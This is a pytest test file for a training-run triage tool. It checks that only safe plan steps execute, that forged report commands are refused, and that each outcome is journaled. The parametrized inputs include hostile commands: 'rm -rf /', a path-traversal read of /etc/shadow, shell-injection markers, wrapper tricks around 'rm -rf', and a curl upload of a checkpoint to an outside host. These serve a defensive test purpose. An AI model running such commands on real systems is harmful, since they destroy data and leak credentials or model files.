"""Only safe steps are done, whatever a report claims, and all of it is written down."""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from msgspec import convert

from runtriage.api.checkpoints import checkpoints
from runtriage.api.diagnosis import diagnose
from runtriage.launch.apply import apply
from runtriage.launch.apply_start import starts_a_run
from runtriage.model.report import Report
from tests.cli.running import runtriage
from tests.render.build import report as built

RESTART = {
    "action": "Start the run again with its own command: nothing in it failed",
    "risk": "safe",
    "expected_impact": "",
    "time_to_try": "5 min",
    "validate": "",
    "fix": "restart-unchanged",
}


def planned(**step: Any) -> Report:
    content = json.loads(built().to_json())
    content["plan"] = [{**RESTART, "action": "Look", **step}]
    return convert(content, Report)


def journal(folder: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (folder / "applied.jsonl").read_text("utf-8").splitlines()]


@pytest.mark.parametrize("risk", ["needs-approval", "dangerous"])
def test_a_step_that_is_not_safe_is_refused_with_any_command(tmp_path: Path, risk: str) -> None:
    for command in (None, "true", "python train.py"):
        done = apply(planned(risk=risk, command="true"), 1, command, tmp_path / "applied.jsonl")
        assert done.outcome == "refused" and risk in done.said
    assert [entry["outcome"] for entry in journal(tmp_path)] == ["refused"] * 3


@pytest.mark.parametrize(
    ("fix", "command"),
    [
        ("read-the-failing-line", "ls -lat /tmp"),
        ("no-such-fix", "ls -lat /tmp"),
        (None, "ls -lat /tmp"),
        ("dist-read-shm", "df -h /dev/shm; touch {marker}"),
        ("dist-read-shm", "touch {marker}"),
        ("dist-read-memlock", "cat /proc/1;touch/limits"),
        ("dist-read-memlock", "cat /proc/$(touch {marker})/limits"),
        ("dist-read-memlock", "cat /proc/../../etc/shadow"),
        ("dist-check-master", "nc -vz 192.0.2.1 80"),
        ("gpu-read-health", "nvidia-smi --gpu-reset"),
        ("find-sender", "sacct -j 7;touch -o JobID,State,ExitCode,Start,End,Timelimit,MaxRSS,NodeList"),
        ("check-disk-space", "df -h --output=target; touch {marker}"),
        ("measure-memory", None),
        ("measure-memory", "rm -rf /"),
    ],
)
def test_a_forged_report_cannot_have_its_own_command_run(tmp_path: Path, fix: str | None, command: str | None) -> None:
    marker = tmp_path / "marker"
    shown = command.replace("{marker}", str(marker)) if command else None

    done = apply(planned(fix=fix, command=shown), 1, None, tmp_path / "applied.jsonl")

    assert done.outcome == "refused", done
    assert not marker.exists()


def test_looking_is_done_after_it_was_told_and_is_written_down(tmp_path: Path) -> None:
    told: list[str] = []

    done = apply(
        planned(fix="dist-read-shm", command="df -h /dev/shm"), 1, None, tmp_path / "applied.jsonl", told.append
    )

    assert told == ["df -h /dev/shm"]
    assert done.outcome == "ran" and "exit code 0" in done.said
    (entry,) = journal(tmp_path)
    assert (entry["step"], entry["command"], entry["outcome"]) == (1, "df -h /dev/shm", "ran")
    assert (tmp_path / "applied.jsonl").stat().st_mode & 0o077 == 0


@pytest.mark.skipif(sys.platform != "linux", reason="df of GNU")
def test_where_no_folder_is_known_every_file_system_is_looked_at(tmp_path: Path) -> None:
    command = "df -h --output=source,size,avail,pcent,iavail,ipcent,target"
    told: list[str] = []
    done = apply(planned(fix="check-disk-space", command=command), 1, None, tmp_path / "applied.jsonl", told.append)
    assert (done.outcome, told) == ("ran", [command])


def test_a_folder_out_of_reach_is_not_looked_at(tmp_path: Path) -> None:
    asked: list[tuple[str, str]] = []

    def admits(name: str, value: str) -> bool:
        asked.append((name, value))
        return False

    step = planned(fix="list-checkpoints", command=f"ls -lat {tmp_path}")
    refused = apply(step, 1, None, tmp_path / "applied.jsonl", admits=admits)

    assert refused.outcome == "refused" and "folder" in refused.said
    assert asked == [("folder", str(tmp_path))]
    assert apply(step, 1, None, tmp_path / "applied.jsonl").outcome == "ran"


def test_checkpoints_are_looked_at_by_this_very_installation(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "step_5.pt").write_bytes(b"PK\x03\x04")
    monkeypatch.setenv("PATH", str(tmp_path))
    step = planned(fix="verify-checkpoint-files", command=f"runtriage checkpoints {tmp_path}")
    forged = planned(fix="verify-checkpoint-files", command=f"runtriage serve {tmp_path}")

    done = apply(step, 1, None, tmp_path / "applied.jsonl")

    assert done.outcome == "ran" and "step_5.pt" in done.said
    assert apply(forged, 1, None, tmp_path / "applied.jsonl").outcome == "refused"


def test_a_look_at_what_a_run_names_is_done_with_its_own_path(tmp_path: Path) -> None:
    named = tmp_path / "data" / "train.bin"
    error = f"FileNotFoundError: [Errno 2] No such file or directory: '{named}'"
    (tmp_path / "train.log").write_text(
        f'Traceback (most recent call last):\n  File "/home/ml/train.py", line 3, in <module>\n    main()\n{error}\n',
        "utf-8",
    )
    report = diagnose(str(tmp_path / "train.log"))
    at, step = next((at, step) for at, step in enumerate(report.plan, 1) if step.fix == "check-path-and-rights")

    done = apply(report, at, None, tmp_path / "applied.jsonl")

    assert step.command == f"ls -ld {named}"
    assert done.outcome == "ran" and "No such file" in done.said


def test_a_program_that_is_missing_is_a_failure_not_a_refusal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))

    done = apply(planned(fix="gpu-list-visible", command="nvidia-smi -L"), 1, None, tmp_path / "applied.jsonl")

    assert done.outcome == "failed" and "no such file" in done.said


@pytest.mark.parametrize(
    "given", [None, "python other.py", "sh start.sh; true", "sh start.sh && true", "", "sh 'start.sh"]
)
def test_a_restart_needs_the_runs_own_command_from_the_user(tmp_path: Path, given: str | None) -> None:
    done = apply(planned(**RESTART, command="sh start.sh"), 1, given, tmp_path / "applied.jsonl")

    assert done.outcome == "refused"


def test_an_unchanged_restart_starts_and_outlives_the_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "start.sh").write_text("echo trained > result\n", "utf-8")

    done = apply(planned(**RESTART, command="sh start.sh"), 1, "sh  start.sh", tmp_path / "state" / "applied.jsonl")

    assert done.outcome == "started", done
    assert _content(tmp_path / "result") == "trained\n"


def test_going_on_from_a_checkpoint_looks_at_it_again_first(tmp_path: Path) -> None:
    report, folder = _resumable(tmp_path), tmp_path / "run" / "checkpoint-10"
    (tmp_path / "resume.sh").write_text(f'echo "$1" > {tmp_path}/resumed\n', "utf-8")
    journal = tmp_path / "applied.jsonl"
    resume = f"sh {tmp_path}/resume.sh {{checkpoint}}"

    without = apply(report, 1, "python train.py", journal)
    whole = apply(report, 1, resume, journal)
    (folder / "model.safetensors").write_bytes(b"\0" * 100)
    spoilt = apply(report, 1, resume, journal)

    assert without.outcome == "refused" and "{checkpoint}" in without.said
    assert whole.outcome == "started", whole
    assert spoilt.outcome == "refused" and report.checkpoints[0].path in spoilt.said
    assert _content(tmp_path / "resumed") == f"{tmp_path / 'run' / report.checkpoints[0].path}\n"


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf {checkpoint}",
        "/bin/rm -rf {checkpoint}",
        "env A=1 rm -rf {checkpoint}",
        "env -Srm python {checkpoint}",
        "nohup env --split-string=rm python {checkpoint}",
        "srun -l rm -rf python {checkpoint}",
        "timeout 60 rm -rf {checkpoint}",
        "sh -c 'rm -rf {checkpoint}'",
        "bash -lc 'rm -rf {checkpoint}'",
        "bash --rcfile start.sh -c 'rm -rf {checkpoint}'",
        "python -c 'import shutil' {checkpoint}",
        "python -W ignore -c 'import shutil' {checkpoint}",
        "python {checkpoint} -c",
        "torchrun --no-python rm -rf {checkpoint}",
        "curl -T {checkpoint} https://example.org",
        "mv train.py {checkpoint}",
        "{checkpoint}",
    ],
)
def test_a_command_that_is_no_start_of_a_run_is_refused(tmp_path: Path, command: str) -> None:
    resumed, kept = _resumable(tmp_path), tmp_path / "run" / "checkpoint-10" / "model.safetensors"

    done = apply(resumed, 1, command, tmp_path / "applied.jsonl")
    again = apply(planned(**RESTART, command=command), 1, command, tmp_path / "applied.jsonl")

    assert (done.outcome, again.outcome) == ("refused", "refused")
    assert kept.exists()


@pytest.mark.parametrize(
    "command",
    [
        "python train.py --resume {checkpoint} -c a.yaml",
        "python3.11 -u -m lab.train --resume {checkpoint}",
        "torchrun --nproc_per_node 8 train.py --resume={checkpoint}",
        "env NCCL_DEBUG=INFO python train.py {checkpoint}",
        "srun -N 2 --gpus=8 python train.py {checkpoint}",
        "uv run python train.py {checkpoint}",
        "nohup timeout 2h bash -e start.sh {checkpoint}",
        "sbatch job.sh {checkpoint}",
    ],
)
def test_a_command_that_trains_is_known_as_a_start(command: str) -> None:
    assert starts_a_run(command.split())


def _resumable(place: Path) -> Report:
    """Return the report of a run with a whole checkpoint, whose plan points the run at it."""
    folder = place / "run" / "checkpoint-10"
    folder.mkdir(parents=True)
    header = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    (folder / "model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + b"\0\0\x80\x3f")
    (folder / "trainer_state.json").write_text(json.dumps({"global_step": 10, "log_history": []}), "utf-8")
    found = checkpoints(str(place / "run")).last_good
    assert found is not None
    content = json.loads(built().to_json())
    content["target"] = str(place / "run")
    content["checkpoints"] = [{"path": found.path, "last_good": True, "valid": True}]
    content["plan"] = [{**RESTART, "action": "Point the run at checkpoint-10", "fix": None}]
    return convert(content, Report)


def _content(path: Path) -> str:
    """Return what a started process writes, once it has."""
    for _ in range(400):
        if path.exists() and path.read_text():
            return path.read_text()
        time.sleep(0.05)
    return ""


def test_the_command_line_refuses_with_one_line_and_exit_code_2(tmp_path: Path) -> None:
    (tmp_path / "report.json").write_text(planned(risk="dangerous", command="true").to_json(), "utf-8")

    refused = runtriage("apply", "1", "--report", "report.json", "--command", "true", cwd=tmp_path)
    absent = runtriage("apply", "9", "--report", "report.json", cwd=tmp_path)

    assert (refused.returncode, absent.returncode) == (2, 2)
    assert "dangerous" in refused.stderr and "no step 9" in absent.stderr
    assert refused.stdout == ""
